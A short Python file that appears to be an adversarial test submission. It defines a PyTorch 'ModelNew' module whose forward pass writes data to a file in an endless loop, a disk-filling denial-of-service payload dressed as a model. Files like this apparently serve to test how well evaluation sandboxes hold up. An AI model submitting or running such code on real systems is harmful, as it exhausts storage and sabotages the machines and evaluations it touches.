"""Fills the disk that it may write to."""

import torch


class ModelNew(torch.nn.Module):
    def forward(self, x):
        with open("filler", "wb") as file:
            while True:
                file.write(b"y" * 2**24)
